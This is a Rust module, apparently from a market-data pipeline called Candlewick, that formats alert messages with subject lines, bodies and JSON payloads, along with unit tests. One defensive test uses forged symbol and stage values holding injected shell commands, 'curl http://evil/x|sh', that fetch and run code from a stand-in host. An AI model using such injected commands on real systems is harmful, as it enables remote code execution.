//! The words in which the owner is told.

use std::fmt::Write;

use candlewick_shared::core::alert::{Kind, State};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::alerts::Known;
use crate::plan::Due;

/// How many alerts of a group are told in full; the others are counted.
const MOST_IN_FULL: usize = 20;

/// How many subjects stand in the first line.
const MOST_IN_SUBJECT: usize = 3;

/// What is sent, whatever carries it.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize, Serialize)]
pub struct Message {
    /// Its own name, the same at every attempt.
    pub name: String,
    /// One line.
    pub subject: String,
    /// Plain text.
    pub body: String,
    /// The same for programs.
    pub payload: Value,
}

/// The message about a group.
#[must_use]
pub fn of(due: &Due, open: &[Known], name: &str) -> Message {
    let chosen = |ids: &[i64]| open.iter().filter(|known| ids.contains(&known.id)).collect::<Vec<_>>();
    let (firing, resolved) = (chosen(&due.firing), chosen(&due.resolved));
    Message {
        name: name.to_owned(),
        subject: subject(due, &firing, &resolved),
        body: body(due.group.kind, &firing, &resolved),
        payload: payload(due, &firing, &resolved, open),
    }
}

fn subject(due: &Due, firing: &[&Known], resolved: &[&Known]) -> String {
    let what = what(due.group.kind);
    let (mark, of) = if firing.is_empty() { ("resolved: ", resolved) } else { ("", firing) };
    let names: Vec<_> = of.iter().take(MOST_IN_SUBJECT).map(|known| known.alert.subject.as_str()).collect();
    let more = of.len().saturating_sub(MOST_IN_SUBJECT);
    let more = if more > 0 { format!(" and {more} more") } else { String::new() };
    format!("Candlewick: {mark}{what}: {}{more}", names.join(", "))
}

/// What a kind means, in a few words.
#[must_use]
pub fn what(kind: Kind) -> &'static str {
    match kind {
        Kind::BadWatchlist => "the watchlist is broken",
        Kind::CalendarHorizon => "calendar ends soon",
        Kind::CandlesLost => "candles are gone",
        Kind::CreditsGone => "API credits are used up",
        Kind::DeadLetter => "given up",
        Kind::DirtyObject => "more was cleaned than allowed",
        Kind::HistoryShrank => "the source lacks candles that it gave before",
        Kind::IngestFailed => "not fetched",
        Kind::LongGap => "long gap",
        Kind::OtherInstrument => "prices of another instrument",
        Kind::Outage => "a dependency does not work",
        Kind::RunFailed => "run ended with failures",
        Kind::SplitFound => "split found",
        Kind::StaleSeries => "not fresh",
    }
}

/// What a kind affects.
fn effect(kind: Kind) -> &'static str {
    match kind {
        Kind::BadWatchlist => "Nothing is asked for or cleaned until it is mended; then all of it goes on by itself.",
        Kind::CalendarHorizon => {
            "Candles behind the calendar's end are loaded, but strays are not noticed and gaps not filled."
        }
        Kind::CandlesLost => "What the new object does not have is gone from the store.",
        Kind::CreditsGone => "Nothing more is fetched until the credits come back, which it does by itself.",
        Kind::DeadLetter => "What the message asked for is not done. What was loaded before stays as it was.",
        Kind::DirtyObject => {
            "The object is loaded; what was set aside is missing from it, and what was filled is flagged."
        }
        Kind::HistoryShrank => "The stored candles are kept; those that the source lacks are no longer renewed.",
        Kind::IngestFailed => "The series are not renewed. What was loaded before stays as it was.",
        Kind::LongGap => "The candles are missing from the store; charts show a hole.",
        Kind::OtherInstrument => "The stored candles are kept, and no new ones are added until you decide.",
        Kind::Outage => "Messages wait in the queue. None is lost, and work resumes by itself.",
        Kind::RunFailed => "The series that failed are not renewed. What was loaded before stays as it was.",
        Kind::SplitFound => {
            "The history was fetched anew and its prices changed; stored results of it are of the old ones."
        }
        Kind::StaleSeries => "Whoever reads these series does not see the newest candles.",
    }
}

/// What to do next, as commands.
#[must_use]
pub fn next_step(kind: Kind, known: &Known) -> String {
    kind.next_step(&known.stage, known.alert.series.as_ref().map(|series| &series.symbol))
}

fn body(kind: Kind, firing: &[&Known], resolved: &[&Known]) -> String {
    let mut text = String::new();
    for known in firing.iter().take(MOST_IN_FULL) {
        let _ = writeln!(text, "{}", paragraph(known));
    }
    count_rest(&mut text, firing.len());
    if !firing.is_empty() {
        let _ = writeln!(text, "What it affects: {}", effect(kind));
    }
    if let Some(first) = firing.first() {
        let _ = writeln!(text, "Next: {}", next_step(kind, first));
    }
    for known in resolved.iter().take(MOST_IN_FULL) {
        let _ = writeln!(text, "Well again: {} ({})", known.alert.subject, what(kind));
    }
    count_rest(&mut text, resolved.len());
    text.push_str("\nAll that is open: candlewick alerts\n");
    text
}

fn count_rest(text: &mut String, all: usize) {
    if all > MOST_IN_FULL {
        let _ = writeln!(text, "… and {} more: candlewick alerts", all - MOST_IN_FULL);
    }
}

/// An alert in full: what, since when, and how to find it elsewhere.
fn paragraph(known: &Known) -> String {
    let alert = &known.alert;
    let class = if alert.class.is_empty() { String::new() } else { format!(" ({})", alert.class) };
    let mut text = format!("{}{class}, since {}", alert.subject, known.raised_at.strftime("%Y-%m-%d %H:%M UTC"));
    if known.occurrences > 1 {
        let _ = write!(text, ", {} times", known.occurrences);
    }
    let _ = write!(text, "\n  {}", alert.text);
    for (name, value) in [("key", &alert.key), ("run", &alert.run), ("trace", &alert.trace_id)] {
        if let Some(value) = value {
            let _ = write!(text, "\n  {name} {value}");
        }
    }
    text.push('\n');
    text
}

/// `still_firing` counts all of the group, also what the owner was told before: at 0 the trouble is over.
fn payload(due: &Due, firing: &[&Known], resolved: &[&Known], open: &[Known]) -> Value {
    let state = if firing.is_empty() { State::Resolved } else { State::Firing };
    let of_group = |known: &&Known| known.alert.kind == due.group.kind && known.stage == due.group.stage;
    let still_firing = open.iter().filter(of_group).filter(|known| known.alert.state == State::Firing).count();
    json!({
        "type": "alert",
        "kind": due.group.kind,
        "stage": due.group.stage,
        "severity": due.group.kind.severity().as_str(),
        "state": state,
        "still_firing": still_firing,
        "firing": firing.iter().map(|known| entry(known)).collect::<Vec<_>>(),
        "resolved": resolved.iter().map(|known| entry(known)).collect::<Vec<_>>(),
    })
}

fn entry(known: &Known) -> Value {
    let mut entry = json!(known.alert);
    if let Value::Object(fields) = &mut entry {
        fields.insert("since".to_owned(), json!(known.raised_at));
        fields.insert("occurrences".to_owned(), json!(known.occurrences));
        fields.insert("next".to_owned(), json!(next_step(known.alert.kind, known)));
    }
    entry
}

#[cfg(test)]
mod tests {
    use candlewick_shared::core::alert::Alert;
    use candlewick_shared::core::key::Series;

    use super::*;
    use crate::plan::Group;

    fn known(id: i64, symbol: &str) -> Known {
        let series = Series { symbol: symbol.parse().unwrap(), interval: "1day".parse().unwrap() };
        let alert = Alert::new(Kind::DeadLetter, &series, "line 3: no price").class("unreadable_object");
        let alert = alert.series(Some(series)).key(Some(format!("raw/{symbol}"))).traced(Some("0af7".to_owned()));
        let at = "2024-12-30T22:01:00Z".parse().unwrap();
        let (stage, told) = ("transform".to_owned(), None);
        Known {
            id,
            stage,
            alert,
            raised_at: at,
            occurrences: id,
            loaded_since: false,
            renewed_since: false,
            changed_at: at,
            told,
        }
    }

    fn message(firing: &[i64], resolved: &[i64], open: &[Known]) -> Message {
        let group = Group { kind: Kind::DeadLetter, stage: "transform".to_owned() };
        of(&Due { group, firing: firing.to_vec(), resolved: resolved.to_vec() }, open, "name")
    }

    #[test]
    fn one_message_says_what_since_when_what_it_affects_where_and_what_next() {
        let message = message(&[1, 2], &[3], &[known(1, "AAPL"), known(2, "BTC/USD"), known(3, "SPY")]);
        assert_eq!(message.subject, "Candlewick: given up: AAPL 1day, BTC/USD 1day");
        for words in [
            "AAPL 1day (unreadable_object), since 2024-12-30 22:01 UTC\n  line 3: no price\n  key raw/AAPL\n  trace 0af7\n",
            "BTC/USD 1day (unreadable_object), since 2024-12-30 22:01 UTC, 2 times",
            "What it affects: What the message asked for is not done.",
            "Next: candlewick dlq list --stage transform",
            "Well again: SPY 1day",
        ] {
            assert!(message.body.contains(words), "{words}\n---\n{}", message.body);
        }
        assert_eq!(message.payload["firing"][1]["subject"], "BTC/USD 1day");
        assert_eq!(
            (message.payload["state"].as_str(), message.payload["resolved"][0]["key"].as_str()),
            (Some("firing"), Some("raw/SPY"))
        );
    }

    #[test]
    fn many_are_counted_and_not_listed() {
        let open: Vec<_> = (1..=30).map(|id| known(id, &format!("S{id}"))).collect();
        let ids: Vec<_> = (1..=30).collect();
        let message = message(&ids, &[], &open);
        assert_eq!(message.subject, "Candlewick: given up: S1 1day, S2 1day, S3 1day and 27 more");
        assert!(
            message.body.contains("S20 1day")
                && !message.body.contains("S21 1day")
                && message.body.contains("and 10 more")
        );
    }

    #[test]
    fn what_is_well_again_says_so_in_its_first_line() {
        let message = message(&[], &[1], &[known(1, "AAPL")]);
        assert_eq!(message.subject, "Candlewick: resolved: given up: AAPL 1day");
        assert!(!message.body.contains("What it affects"), "{}", message.body);
    }

    #[test]
    fn no_command_is_decided_by_what_was_forged() {
        let mut forged = known(1, "A;curl|sh");
        forged.stage = "loader; curl http://evil/x|sh #".to_owned();
        assert!(next_step(Kind::DeadLetter, &forged).starts_with("candlewick dlq list; "));
        assert_eq!(next_step(Kind::StaleSeries, &forged), "candlewick refresh 'A;curl|sh'");
    }

    #[test]
    fn every_kind_has_its_words() {
        for kind in Kind::ALL {
            let step = next_step(kind, &known(1, "AAPL"));
            assert!(!what(kind).is_empty() && effect(kind).ends_with('.') && !step.is_empty());
        }
    }
}
